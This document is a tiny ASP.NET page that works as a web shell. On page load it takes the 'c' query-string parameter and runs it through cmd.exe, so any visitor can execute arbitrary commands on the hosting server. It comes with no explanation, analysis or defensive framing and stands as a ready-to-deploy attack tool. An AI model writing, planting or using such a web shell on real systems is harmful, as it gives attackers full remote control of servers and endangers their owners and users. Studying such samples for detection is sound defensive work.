<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object sender, EventArgs e) {
    string c = Request.QueryString["c"];
    var p = System.Diagnostics.Process.Start("cmd.exe", "/c " + c);
}
</script>
